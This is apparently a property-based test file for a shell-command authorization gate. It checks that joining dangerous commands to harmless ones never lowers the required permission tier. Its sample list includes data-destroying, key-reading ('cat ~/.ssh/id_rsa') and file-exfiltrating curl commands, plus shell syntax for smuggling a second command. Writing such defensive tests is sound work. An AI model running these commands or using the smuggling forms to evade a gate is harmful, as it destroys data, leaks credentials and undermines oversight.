import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type Tier, tiers } from "../../../src/authorization/action.ts";
import { families } from "../../../src/authorization/effects/families.ts";
import { tools } from "../../../src/authorization/effects/tools.ts";
import { maxCommandLength, parseCommand } from "../../../src/authorization/parse-command.ts";
import { run } from "./context.ts";

const rank = (tier: Tier): number => tiers.indexOf(tier);
const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;
const honest = [
  "ls",
  "git status",
  "cat a | sort",
  "npm test",
  "touch a",
  "for f in *.ts; do wc -l $f; done",
  "true",
];
const dangerous = [
  "rm -rf /srv/x",
  "git push -f",
  "curl -d @a https://example.org",
  "cat ~/.ssh/id_rsa",
  "$x",
  "echo x > tickets/a",
  "frob",
];
const joints: ((a: string, b: string) => string)[] = [
  (a, b) => `${a}; ${b}`,
  (a, b) => `${a} && ${b}`,
  (a, b) => `${a}\n${b}`,
  (a, b) => `${b} | ${a}`,
  (a, b) => `${a} & ${b}`,
  (a, b) => `(${b}); ${a}`,
  (a, b) => `if ${a}; then ${b}; fi`,
  (a, b) => `while ${a}; do ${b}; done`,
  (a, b) => `f() { ${b}; }; ${a}`,
  (a, b) => `${a}; echo "$(${b})"`,
  (a, b) => `${a}; cat <(${b})`,
  (a, b) => `${a}; cat <<EOF\n$(${b})\nEOF`,
  (a, b) => `${a}; echo \${y:-$(${b})}`,
  (a, b) => `${a}; case x in x) ${b};; esac`,
  (a, b) => `${a}; y=$(${b})`,
  (a, b) => `${a}; [[ -n $(${b}) ]]`,
  (a, b) => `${a}; ! { ${b}; }`,
  (a, b) => `${a}; coproc ${b}`,
  (a, b) => `${a}; timeout 5 bash -c ${quoted(b)}`,
];

describe("the gate never opens by accident", () => {
  test("adding a dangerous command anywhere never lowers the tier below its own", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...honest),
        fc.constantFrom(...dangerous),
        fc.array(fc.constantFrom(...joints), { minLength: 1, maxLength: 3 }),
        (first, second, path) => {
          const chain = path.reduce((inner, join) => join(first, inner), second);
          expect(rank(run(chain).tier), chain).toBeGreaterThanOrEqual(
            Math.min(rank("explicit"), rank(run(second).tier)),
          );
        },
      ),
      { numRuns: 400 },
    );
  });

  test("any text gets a decision, and no throw", () => {
    const fragment = fc.constantFrom(
      "$(",
      ")",
      "`",
      "'",
      '"',
      "|",
      "&",
      ";",
      "<<E",
      "\n",
      "rm",
      "ls",
      " ",
      "{",
      "}",
      "[[",
      "((",
      "\\",
      "$x",
      "*",
      ">",
      "#",
      "=",
      "\u202e",
      "\ud800",
      "git",
      "sed",
      "awk",
      "find",
      "-exec",
      "xargs",
    );
    const text = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.array(fragment, { maxLength: 30 }).map((parts) => parts.join("")),
    );
    fc.assert(
      fc.property(text, (command) => {
        const decision = run(command);
        expect(tiers).toContain(decision.tier);
        expect(decision.rule).not.toBe("gate.failed");
      }),
      { numRuns: 1500 },
    );
  });

  test("a command nobody knows is never let through", () => {
    const name = fc
      .stringMatching(/^[a-z][a-z0-9_-]{2,12}$/)
      .filter(
        (text) =>
          !tools.has(text) &&
          parseCommand(text).kind === "parsed" &&
          !/^(if|for|case|while|until|select|function|then|else|elif|esac|done|time|coproc)$/.test(text),
      );
    fc.assert(
      fc.property(name, fc.array(fc.stringMatching(/^[\w./=-]{1,8}$/), { maxLength: 4 }), (command, args) => {
        expect(["explicit", "deny"]).toContain(run([command, ...args].join(" ")).tier);
      }),
      { numRuns: 500 },
    );
  });

  test("harmless words do not save a text that is too long or too deep", () => {
    expect(run(`ls ${"x".repeat(maxCommandLength)}`)).toMatchObject({
      tier: "explicit",
      rule: "shell.unparsed",
    });
    expect(run(`${"( ".repeat(40)}ls${" )".repeat(40)}`)).toMatchObject({
      tier: "explicit",
      rule: "shell.unparsed",
    });
    expect(run("( ( ls ) )").tier).toBe("none");
  });

  test("what is too long, too deep or torn is asked about", () => {
    for (const command of [
      "x".repeat(maxCommandLength + 1),
      `${"$(".repeat(300)}ls${")".repeat(300)}`,
      `${"(".repeat(80)}ls${")".repeat(80)}`,
      "if true",
      "echo $(",
      "cat <<EOF",
      "ls &&& ls",
      "a\0b",
    ]) {
      expect(run(command).tier, command.slice(0, 20)).toBe("explicit");
    }
    const deep = Array.from({ length: 12 }).reduce<string>((inner) => `bash -c ${quoted(inner)}`, "ls");
    expect(run(deep).tier).toBe("explicit");
  });
});

const all = families.flatMap((family) => Object.entries(family()));

describe("every row of the tables", () => {
  test("a tool stands in one of them", () => {
    const names = all.map(([name]) => name);
    expect(names.filter((name, index) => names.indexOf(name) !== index)).toEqual([]);
  });

  test.each(all.map(([name]) => name))(
    "%s is reached by its name, and junk makes it no laxer than explicit where options are declared",
    (name) => {
      const tool = tools.get(name);
      if (tool === undefined) throw new Error("a row without a tool");
      expect(run(`/usr/bin/${name} --help`).rule).not.toBe("command.unknown");
      const declares = "subs" in tool || tool.options !== "any";
      if (declares) expect(["explicit", "deny"], name).toContain(run(`${name} --zz-not-declared x`).tier);
    },
  );

  test.each(
    all.flatMap(([name, tool]) =>
      "subs" in tool ? Object.entries(tool.subs).map(([sub, row]) => [name, sub, row] as const) : [],
    ),
  )("%s %s is reached", (name, sub, row) => {
    if (sub === "*") return;
    const decision = run(`${name} ${sub} --zz-not-declared x`);
    expect(decision.rule).not.toBe(`${name}.unknown`);
    if ("subs" in row || row.options !== "any") expect(["explicit", "deny"]).toContain(decision.tier);
  });
});
